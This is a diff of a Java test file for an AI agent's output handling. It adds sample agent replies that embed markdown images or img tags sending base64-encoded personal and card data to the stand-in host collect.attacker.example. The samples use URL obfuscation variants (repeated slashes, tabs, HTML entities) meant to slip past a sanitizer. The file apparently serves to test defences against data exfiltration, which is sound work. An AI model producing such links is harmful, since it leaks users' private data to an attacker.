@@ -97,6 +97,12 @@ class AgentPresetTest {
                 "Done. ![s](https:\\\\collect.attacker.example/p.gif?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
                 "Done. ![s](https:/\\collect.attacker.example/p.gif?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
                 "Done. <img src=\"http:collect.attacker.example/p.gif?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "Done. ![s](https:" + "/".repeat(12)
+                        + "collect.attacker.example/p.gif?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
+                "Done. <img src=\"https:\t//collect.attacker.example/p.gif?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                // a named reference of a quote inside the URL must not cut it short (a browser reads on)
+                "Done. <img src=\"https://collect.attacker.example/p.gif?x=&quot;&d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                "Done. ![s](https://collect.attacker.example/p.gif?x=&rpar;&d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)",
                 // the URL spelled with named HTML references, as a browser reads it
                 "Done. <img src=\"https&colon;&sol;&sol;collect&period;attacker&period;example&sol;p.gif&quest;d&equals;"
                         + "QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">")) {
